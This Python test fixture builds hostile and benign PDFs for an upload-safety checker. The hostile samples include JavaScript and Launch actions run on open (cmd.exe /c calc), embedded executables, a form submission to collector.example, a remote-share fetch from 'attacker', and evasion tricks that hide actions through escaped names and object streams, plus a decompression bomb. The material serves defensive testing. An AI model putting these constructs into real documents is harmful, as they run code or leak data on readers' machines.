"""PDF files built byte by byte for the upload check (documents/pdf_safety.py): hostile ones, each with
the reason it must be refused, and ordinary ones that must stay accepted. No binary file is committed.

`document(...)` writes a one-page PDF with a correct cross-reference table, or, with `compressed`,
puts the chosen objects in a FlateDecode object stream with a cross-reference stream as PDF 1.5+
writers do, so that a real reader (pypdf in the tests) opens every file of the corpus.
"""

import struct
import zlib

from documents.pdf_safety import ACTIVE, AUTOMATIC, Encrypted, TooLarge, Unreadable

CONTENT = b"BT /F1 12 Tf 72 720 Td (CSSR) Tj ET"
ADDRESS = b"(https://tracker.example/opened)"
URI_ACTION = b"<< /S /URI /URI " + ADDRESS + b" >>"
LINK_RECT = b"/Rect [72 700 300 720]"


def _stream(dictionary, data):
    return b"<< " + dictionary + b" /Length %d >>\nstream\n" % len(data) + data + b"\nendstream"


def document(
    *,
    catalog=b"",
    page=b"",
    extra=(),
    compressed=(),
    content=CONTENT,
    content_filter=None,
    object_stream_dictionary=b"/Filter /FlateDecode",
    object_stream_data=None,
    object_stream_counts=None,
    between=b"",
    appended=b"",
    trailer=b"",
):
    """A one-page PDF. `catalog` and `page` are added to those dictionaries; `extra` are objects 6,
    7, … (bytes, or (dictionary, data) for a stream). `compressed`: the numbers of the objects to put
    in an object stream (`object_stream_data` replaces its encoded data, `object_stream_counts` its /N
    and /First). `between` is written among
    the objects, `appended` after them (an incremental update), `trailer` into the trailer."""
    content_dictionary = b""
    if content_filter == "FlateDecode":
        content, content_dictionary = zlib.compress(content), b"/Filter /FlateDecode"
    bodies = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> " + page + b" >>",
        (content_dictionary, content),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        *extra,
    ]
    bodies = [_stream(*body) if isinstance(body, tuple) else body for body in bodies]
    output = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number, body in enumerate(bodies, start=1):
        if number in compressed:
            continue
        offsets[number] = len(output)
        output += b"%d 0 obj\n" % number + body + b"\nendobj\n"
        if number == 2:
            output += between
    output += appended
    size = len(bodies) + 1
    if not compressed:
        xref = len(output)
        output += b"xref\n0 %d\n0000000000 65535 f \n" % size
        for number in range(1, size):
            output += b"%010d 00000 n \n" % offsets.get(number, 0)
        output += b"trailer\n<< /Size %d /Root 1 0 R %s >>\nstartxref\n%d\n%%%%EOF\n" % (size, trailer, xref)
        return bytes(output)
    # The object stream (number `size`) and the cross-reference stream (number `size + 1`).
    members = sorted(compressed)
    header, parts, position = [], [], 0
    for number in members:
        header.append(b"%d %d" % (number, position))
        parts.append(bodies[number - 1])
        position += len(bodies[number - 1]) + 1
    header = b" ".join(header) + b"\n"
    plain = header + b"\n".join(parts) + b"\n"
    data = zlib.compress(plain) if object_stream_data is None else object_stream_data
    count, first = object_stream_counts or (len(members), len(header))
    object_stream_number, xref_number = size, size + 1
    offsets[object_stream_number] = len(output)
    output += (
        b"%d 0 obj\n" % object_stream_number
        + _stream(b"/Type /ObjStm /N %d /First %d " % (count, first) + object_stream_dictionary, data)
        + b"\nendobj\n"
    )
    offsets[xref_number] = len(output)
    rows = [struct.pack(">BIH", 0, 0, 65535)]
    for number in range(1, xref_number + 1):
        if number in compressed:
            rows.append(struct.pack(">BIH", 2, object_stream_number, members.index(number)))
        else:
            rows.append(struct.pack(">BIH", 1, offsets[number], 0))
    output += (
        b"%d 0 obj\n" % xref_number
        + _stream(
            b"/Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Filter /FlateDecode %s"
            % (xref_number + 1, trailer),
            zlib.compress(b"".join(rows)),
        )
        + b"\nendobj\n"
    )
    output += b"startxref\n%d\n%%%%EOF\n" % offsets[xref_number]
    return bytes(output)


def _link(action=b"/A " + URI_ACTION, more=b""):
    return (
        b"<< /Type /Annot /Subtype /Link " + LINK_RECT + b" /Border [0 0 0] " + action + b" " + more + b" >>"
    )


def _ascii85(data):
    import base64

    return base64.a85encode(data, adobe=True)[2:]  # the "<~" opening is optional in a PDF; "~>" ends it


# --- Refused: (name, bytes, what the check finds) -----------------------------------------------
# What the check finds: (ACTIVE or AUTOMATIC, the deciding name), or (the exception the file raises,
# its reason).

HIDDEN = (Unreadable, "an object inside a string, a comment or a stream")

HOSTILE_PDFS = [
    # Scripts, programs, attached files, rich media, XFA, forms that send or import data.
    (
        "javascript-on-open",
        document(catalog=b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"),
        (ACTIVE, "JS"),
    ),
    (
        "javascript-escaped-names",
        document(catalog=b"/OpenAction << /S /J#61vaScript /#4A#53 (app.alert(1)) >>"),
        (ACTIVE, "JS"),
    ),
    (
        "javascript-escaped-type-only",
        document(catalog=b"/OpenAction << /S /J#61v#61Script /J#53 6 0 R >>", extra=[(b"", b"app.alert(1)")]),
        (ACTIVE, "JS"),
    ),
    (
        "javascript-name-tree",
        document(
            catalog=b"/Names << /JavaScript << /Names [(x) 6 0 R] >> >>",
            extra=[b"<< /S /JavaScript /JS (app.alert(1)) >>"],
        ),
        (ACTIVE, "JS"),
    ),
    (
        "javascript-in-a-field",
        document(
            catalog=b"/AcroForm << /Fields [6 0 R] >>",
            extra=[
                b"<< /FT /Tx /T (name) " + LINK_RECT + b" /Subtype /Widget /AA << /K << /S /JavaScript "
                b"/JS (event.rc = true) >> >> >>"
            ],
        ),
        (ACTIVE, "JS"),
    ),
    (
        "launch-on-click",
        document(
            page=b"/Annots [6 0 R]",
            extra=[_link(b"/A << /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>")],
        ),
        (ACTIVE, "Launch"),
    ),
    (
        "launch-escaped",
        document(page=b"/Annots [6 0 R]", extra=[_link(b"/A << /S /L#61unch /F (cmd.exe) >>")]),
        (ACTIVE, "Launch"),
    ),
    (
        "attached-file",
        document(
            catalog=b"/Names << /EmbeddedFiles << /Names [(run.exe) 6 0 R] >> >>",
            extra=[
                b"<< /Type /Filespec /F (run.exe) /EF << /F 7 0 R >> >>",
                (b"/Type /EmbeddedFile", b"MZ\x90\x00"),
            ],
        ),
        (ACTIVE, "EmbeddedFile"),
    ),
    (
        "attached-file-escaped",
        document(extra=[(b"/Type /Embedded#46ile", b"MZ\x90\x00")]),
        (ACTIVE, "EmbeddedFile"),
    ),
    (
        "rich-media",
        document(
            page=b"/Annots [6 0 R]",
            extra=[b"<< /Type /Annot /Subtype /RichMedia " + LINK_RECT + b" /RichMediaContent << >> >>"],
        ),
        (ACTIVE, "RichMedia"),
    ),
    (
        "xfa-form",
        document(catalog=b"/AcroForm << /Fields [] /XFA 6 0 R >>", extra=[(b"", b"<xdp:xdp/>")]),
        (ACTIVE, "XFA"),
    ),
    (
        "submit-form-on-click",
        document(
            page=b"/Annots [6 0 R]",
            extra=[_link(b"/A << /S /SubmitForm /F << /FS /URL /F (https://collector.example/) >> >>")],
        ),
        (ACTIVE, "SubmitForm"),
    ),
    (
        "import-data-on-open",
        document(catalog=b"/OpenAction << /S /ImportData /F (data.fdf) >>"),
        (ACTIVE, "ImportData"),
    ),
    # The same, hidden in an object stream (compressed), escaped or not, in two encodings.
    (
        "javascript-in-object-stream",
        document(
            catalog=b"/OpenAction 6 0 R",
            compressed={1, 6},
            extra=[b"<< /S /JavaScript /JS (app.alert(1)) >>"],
        ),
        (ACTIVE, "JS"),
    ),
    (
        "javascript-escaped-in-object-stream",
        document(catalog=b"/OpenAction << /S /J#61vaScript /#4A#53 (x) >>", compressed={1, 2, 3}),
        (ACTIVE, "JS"),
    ),
    (
        "launch-in-ascii85-object-stream",
        document(
            page=b"/Annots [6 0 R]",
            extra=[_link(b"/A << /S /Launch /F (cmd.exe) >>")],
            compressed={6},
            object_stream_dictionary=b"/Filter [/ASCII85Decode /FlateDecode]",
            object_stream_data=_ascii85(
                zlib.compress(b"6 0\n" + _link(b"/A << /S /Launch /F (cmd.exe) >>") + b"\n")
            ),
        ),
        (ACTIVE, "Launch"),
    ),
    # Actions that run by themselves and leave the document: an outside address, another file, media.
    ("web-address-on-open", document(catalog=b"/OpenAction " + URI_ACTION), (AUTOMATIC, "URI")),
    (
        "web-address-on-open-indirect",
        document(catalog=b"/OpenAction 6 0 R", extra=[URI_ACTION]),
        (AUTOMATIC, "URI"),
    ),
    (
        "web-address-on-open-escaped",
        document(catalog=b"/Open#41ction << /#53 /U#52I /URI " + ADDRESS + b" >>"),
        (AUTOMATIC, "URI"),
    ),
    (
        "web-address-on-open-in-object-stream",
        document(catalog=b"/OpenAction 6 0 R", extra=[URI_ACTION], compressed={1, 6}),
        (AUTOMATIC, "URI"),
    ),
    (
        "web-address-chained-after-goto",
        document(catalog=b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [6 0 R] >>", extra=[URI_ACTION]),
        (AUTOMATIC, "URI"),
    ),
    (
        "web-address-chained-twice",
        document(
            catalog=(
                b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /GoTo /D [3 0 R /Fit] /Next 6 0 R >> >>"
            ),
            extra=[URI_ACTION],
        ),
        (AUTOMATIC, "URI"),
    ),
    (
        "web-address-when-the-page-opens",
        document(page=b"/AA << /O " + URI_ACTION + b" >>"),
        (AUTOMATIC, "URI"),
    ),
    (
        "web-address-when-pointing-at-a-link",
        document(
            page=b"/Annots [6 0 R]",
            extra=[_link(b"/A << /S /GoTo /D [3 0 R /Fit] >>", b"/AA << /E 7 0 R >>"), URI_ACTION],
        ),
        (AUTOMATIC, "URI"),
    ),
    (
        "remote-file-on-close",
        document(
            catalog=b"/AA << /WC << /S /GoToR /F (\\\\\\\\attacker\\\\share\\\\x.pdf) /D [0 /Fit] >> >>"
        ),
        (AUTOMATIC, "GoToR"),
    ),
    (
        "remote-file-on-open",
        document(catalog=b"/OpenAction << /S /GoToR /F (https://tracker.example/x.pdf) /D [0 /Fit] >>"),
        (AUTOMATIC, "GoToR"),
    ),
    (
        "embedded-go-to-on-open",
        document(catalog=b"/OpenAction << /S /GoToE /D [0 /Fit] /T << /R /C /N (a) >> >>"),
        (AUTOMATIC, "GoToE"),
    ),
    (
        "menu-command-on-open",
        document(catalog=b"/OpenAction << /S /Named /N /Print >>"),
        (AUTOMATIC, "Named"),
    ),
    (
        "media-on-open",
        document(
            catalog=b"/OpenAction << /S /Rendition /OP 0 /AN 6 0 R >>",
            extra=[b"<< /Type /Annot /Subtype /Screen " + LINK_RECT + b" >>"],
        ),
        (AUTOMATIC, "Rendition"),
    ),
    (
        "action-without-a-type-on-open",
        document(catalog=b"/OpenAction << /URI " + ADDRESS + b" >>"),
        (AUTOMATIC, "(none)"),
    ),
    (
        "key-written-twice",
        document(catalog=b"/OpenAction [3 0 R /Fit] /OpenAction " + URI_ACTION),
        (AUTOMATIC, "URI"),
    ),
    (
        "object-redefined-by-an-update",
        document(
            catalog=b"/OpenAction 6 0 R",
            extra=[b"<< /S /GoTo /D [3 0 R /Fit] >>"],
            appended=b"6 0 obj\n" + URI_ACTION + b"\nendobj\n",
        ),
        (AUTOMATIC, "URI"),
    ),
    (
        "object-stream-offset-into-a-string",
        document(
            catalog=b"/OpenAction 7 0 R",
            extra=[b"<< >>", b"<< >>"],
            compressed={6, 7},
            # Read in order, the stream holds one string; at the offset its header gives for object 7, a
            # reader finds the action.
            object_stream_data=zlib.compress(b"6 0 7 5\n(xxxx<< /S /URI /URI <68747470733a2f2f74> >>)"),
            object_stream_counts=(2, 8),
        ),
        (AUTOMATIC, "URI"),
    ),
    # Objects a reader could find but a check reading in order would not: refused as unreadable.
    ("object-hidden-in-a-string", document(extra=[b"(7 0 obj " + URI_ACTION + b" endobj)"]), HIDDEN),
    ("object-hidden-in-a-comment", document(between=b"% 7 0 obj " + URI_ACTION + b" endobj\n"), HIDDEN),
    ("object-hidden-in-a-stream", document(extra=[(b"", b"7 0 obj " + URI_ACTION + b" endobj")]), HIDDEN),
    # Damaged, or built to defeat the check.
    ("nested-too-deeply", document(extra=[b"[" * 5000 + b"]" * 5000]), (Unreadable, "nested too deeply")),
    ("unbalanced-brackets", document(extra=[b"<< /A [1 2 >> ]"]), (Unreadable, "unbalanced")),
    (
        "string-without-its-end",
        document(extra=[b"<< /Title (never closed >>"]),
        (Unreadable, "string without its end"),
    ),
    (
        "object-stream-in-an-unknown-filter",
        document(
            catalog=b"/OpenAction 6 0 R",
            extra=[URI_ACTION],
            compressed={6},
            object_stream_dictionary=b"/Filter /LZWDecode",
        ),
        (Unreadable, "filter"),
    ),
    (
        "object-stream-with-a-predictor",
        document(
            extra=[URI_ACTION],
            compressed={6},
            object_stream_dictionary=b"/Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 4 >>",
        ),
        (Unreadable, "predictor in an object stream"),
    ),
    (
        "object-stream-truncated",
        document(
            extra=[URI_ACTION * 50],
            compressed={6},
            object_stream_data=zlib.compress(b"6 0\n" + URI_ACTION * 50)[:40],
        ),
        (Unreadable, "truncated"),
    ),
    (
        "object-stream-header-lies",
        document(extra=[URI_ACTION], compressed={6}, object_stream_counts=(4000, 4)),
        (Unreadable, "object stream header"),
    ),
    (
        "encrypted-object-stream",
        document(
            extra=[URI_ACTION, b"<< /Filter /Standard /V 2 /R 3 /O <00> /U <00> /P -4 >>"],
            compressed={6},
            object_stream_data=bytes(range(7, 250)),
            trailer=b"/Encrypt 7 0 R /ID [<01> <01>]",
        ),
        (Encrypted, "inflate"),
    ),
    (
        "decompression-bomb",
        document(
            extra=[b"<< >>"],
            compressed={6},
            object_stream_data=zlib.compress(b"6 0\n<< >>" + b" " * (64 * 1024 * 1024), 9),
        ),
        (TooLarge, ""),
    ),
]

# --- Accepted: ordinary files --------------------------------------------------------------------

BENIGN_PDFS = [
    ("plain", document()),
    # A link is followed only when the reader clicks it (readers ask before leaving the document); the
    # address may contain what looks like a name.
    (
        "link-to-a-web-address",
        document(
            page=b"/Annots [6 0 R]",
            extra=[_link(b"/A << /S /URI /URI (https://www.example.org/JS/JavaScript/Launch) >>")],
        ),
    ),
    (
        "bookmark-to-a-web-address",
        document(
            catalog=b"/Outlines 6 0 R",
            extra=[
                b"<< /Type /Outlines /First 7 0 R /Last 7 0 R /Count 1 >>",
                b"<< /Title (Site) /Parent 6 0 R /A " + URI_ACTION + b" >>",
            ],
        ),
    ),
    ("opens-at-the-first-page", document(catalog=b"/OpenAction [3 0 R /Fit] /PageMode /UseOutlines")),
    ("opens-with-a-go-to-action", document(catalog=b"/OpenAction << /S /GoTo /D [3 0 R /FitH 792] >>")),
    (
        "object-streams-with-a-link",
        document(page=b"/Annots [6 0 R]", extra=[_link()], compressed={1, 2, 3, 6}),
    ),
    (
        "object-stream-in-ascii85",
        document(
            extra=[b"<< /Producer (CSSR) >>"],
            compressed={6},
            trailer=b"/Info 6 0 R",
            object_stream_dictionary=b"/Filter [/ASCII85Decode /FlateDecode]",
            object_stream_data=_ascii85(zlib.compress(b"6 0\n<< /Producer (CSSR) >>\n")),
        ),
    ),
    # What a page draws is not an action: text about JavaScript, compressed or not.
    (
        "drawing-text-about-javascript",
        document(content=b"BT /F1 12 Tf 72 720 Td (Turn off /JavaScript and /Launch in your reader) Tj ET"),
    ),
    (
        "compressed-drawing-about-javascript",
        document(
            content=b"BT /F1 12 Tf 72 720 Td (/JavaScript /OpenAction) Tj ET", content_filter="FlateDecode"
        ),
    ),
    (
        "title-that-mentions-launch",
        document(extra=[b"<< /Title (Launch plan: /Launch /JS) /Author (CSSR) >>"], trailer=b"/Info 6 0 R"),
    ),
]
